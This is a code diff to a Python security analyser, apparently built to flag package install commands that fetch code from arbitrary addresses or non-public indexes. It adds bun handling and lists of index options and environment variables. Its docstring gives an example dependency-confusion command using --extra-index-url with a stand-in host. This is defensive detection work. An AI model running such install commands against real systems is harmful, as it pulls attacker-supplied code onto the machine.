@@ -6,6 +6,12 @@ an address (`pip install git+https://github.com/someone/tool`, `npm install gith
 from wherever the address points, with no registry in between: a prompt-injected agent's way to
 run an attacker's code that reads like routine work. `remote_source` names the first such source
 an install command line has, so the analyser can report it.
+
+An index of one's own is the same thing one step removed: `pip install --extra-index-url
+https://pkgs.example/simple requests` takes `requests` from whichever index offers it (the
+dependency-confusion attack), `npm install --registry URL`, `gem install --source URL` and the
+`PIP_INDEX_URL` family of variables likewise. `index_source` and `index_address` name such an
+index when it is neither a public registry's own host nor this machine.
 """
 
 from __future__ import annotations
@@ -13,8 +19,12 @@ from __future__ import annotations
 import re
 from collections.abc import Sequence
 from typing import Final
+from urllib.parse import urlsplit
 
-__all__ = ["remote_spec", "remote_source"]
+__all__ = [
+    "INDEX_VARIABLES", "index_address", "index_source", "remote_script", "remote_spec",
+    "remote_source",
+]  # fmt: skip
 
 _PIP_INSTALLS: Final = frozenset({"install", "download", "wheel"})
 _NPM_INSTALLS: Final = frozenset({"install", "i", "add", "isntall", "in", "ins", "inst"})
@@ -40,10 +50,12 @@ _NPM_VALUE_OPTS: Final = frozenset(
 
 def remote_source(tool: str, args: Sequence[str]) -> str | None:
     """The first package source in an install command line that is an address, or None.
-    `tool` is the program (`pip`, `npm`, `pnpm`, `yarn`, `npx`, `cargo`, `uv`) and `args` its
-    arguments as the program receives them."""
+    `tool` is the program (`pip`, `npm`, `pnpm`, `yarn`, `bun`, `npx`, `cargo`, `uv`) and
+    `args` its arguments as the program receives them."""
     if tool in ("pip", "pip3"):
         return _pip(args)
+    if tool == "bun":
+        return _bun(args)
     if tool in ("npm", "pnpm", "yarn"):
         words = [a for a in args if not a.startswith("-")]
         if words[:1] == ["dlx"]:
@@ -63,6 +75,22 @@ def remote_source(tool: str, args: Sequence[str]) -> str | None:
             return _pip(args[args.index(words[1]) :])
         if words[:1] == ["add"]:
             return _pip(["install", *args[args.index("add") + 1 :]])
+    return None
+
+
+def _bun(args: Sequence[str]) -> str | None:
+    """`bun add|install SPEC` as npm reads it, `bun x SPEC` as `bunx`, and `bun create
+    TEMPLATE`, whose template may be a GitHub `owner/repo` or a URL."""
+    words = [a for a in args if not a.startswith("-")]
+    if not words:
+        return None
+    rest = args[args.index(words[0]) + 1 :]
+    if words[0] in ("add", "a", "install", "i"):
+        return _npm(["install", *rest])
+    if words[0] == "x":
+        return _npm_spec(_first_positional(rest))
+    if words[0] in ("create", "c"):
+        return _npm_spec(_first_positional(rest))
     return None
 
 
@@ -158,3 +186,87 @@ def _positionals(
             continue
         out.append(arg)
     return out
+
+
+# Options that name the index or registry packages come from, per program.
+_PY_INDEX_OPTS: Final = (
+    "-i", "--index-url", "--extra-index-url", "--index", "--default-index", "-f", "--find-links",
+)  # fmt: skip
+_INDEX_OPTS: Final[dict[str, tuple[str, ...]]] = {
+    **dict.fromkeys(("pip", "pip3", "pipx", "uv", "uvx"), _PY_INDEX_OPTS),
+    **dict.fromkeys(("npm", "pnpm", "yarn", "bun", "npx", "bunx", "pnpx"), ("--registry",)),
+    "gem": ("--source", "-s"),
+    "cargo": ("--index",),
+}
+# The variables those programs read the same setting from (npm's in any case).
+INDEX_VARIABLES: Final = frozenset(
+    {
+        "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_FIND_LINKS", "UV_INDEX_URL",
+        "UV_EXTRA_INDEX_URL", "UV_INDEX", "UV_DEFAULT_INDEX", "UV_FIND_LINKS",
+        "NPM_CONFIG_REGISTRY", "YARN_REGISTRY", "YARN_NPM_REGISTRY_SERVER",
+        "BUN_CONFIG_REGISTRY", "GOPROXY",
+    }
+)  # fmt: skip
+# Public registries' own hosts (and their subdomains): an index there is the registry.
+_REGISTRY_HOSTS: Final = (
+    "pypi.org", "files.pythonhosted.org", "download.pytorch.org", "npmjs.org", "npmjs.com",
+    "yarnpkg.com", "rubygems.org", "crates.io", "proxy.golang.org",
+)  # fmt: skip
+_SCRIPT_REGISTRY_HOSTS: Final = ("deno.land", "jsr.io")
+_LOCAL_HOSTS: Final = frozenset({"localhost", "127.0.0.1", "::1"})
+_MAX_INDEX_VALUE: Final = 4096
+
+
+def index_source(tool: str, args: Sequence[str]) -> str | None:
+    """The first index or registry other than a public registry's that a package command line
+    names by option (`--index-url URL`, `--registry=URL`, `-iURL`), or None."""
+    opts = _INDEX_OPTS.get(tool)
+    if opts is None:
+        return None
+    for index, arg in enumerate(args):
+        if not arg.startswith("-"):
+            continue
+        value: str | None = None
+        if arg in opts:
+            value = args[index + 1] if index + 1 < len(args) else None
+        elif "=" in arg and arg.partition("=")[0] in opts:
+            value = arg.partition("=")[2]
+        elif arg[:2] in opts and len(arg) > 2 and not arg.startswith("--"):
+            value = arg[2:]  # `-ihttps://...`
+        if value is not None:
+            found = index_address(value)
+            if found is not None:
+                return found
+    return None
+
+
+def remote_script(url: str) -> bool:
+    """Whether a script run from a URL (`deno run URL`, `bun run URL`) comes from an address
+    rather than a registry of modules (`deno.land`, `jsr.io`)."""
+    try:
+        host = (urlsplit(url).hostname or "").rstrip(".")
+    except ValueError:
+        return True
+    return not _known_host(host, _SCRIPT_REGISTRY_HOSTS)
+
+
+def _known_host(host: str, known: tuple[str, ...]) -> bool:
+    return host in _LOCAL_HOSTS or any(host == k or host.endswith("." + k) for k in known)
+
+
+def index_address(value: str) -> str | None:
+    """The address in an index setting when it is one to ask about: a URL (also inside a list,
+    `URL,direct`, or a named index, `name=URL`) whose host is neither a public registry's nor
+    this machine. Local directories and `file:` URLs are not addresses."""
+    for item in re.split(r"[\s,|]+", value[:_MAX_INDEX_VALUE]):
+        name, eq, after = item.partition("=")
+        url = after if eq and "://" not in name else item
+        if "://" not in url or url.startswith("file:"):
+            continue
+        try:
+            host = (urlsplit(url).hostname or "").rstrip(".")
+        except ValueError:
+            return url  # a URL Python cannot read is not one to trust
+        if not _known_host(host, _REGISTRY_HOSTS):
+            return url
+    return None
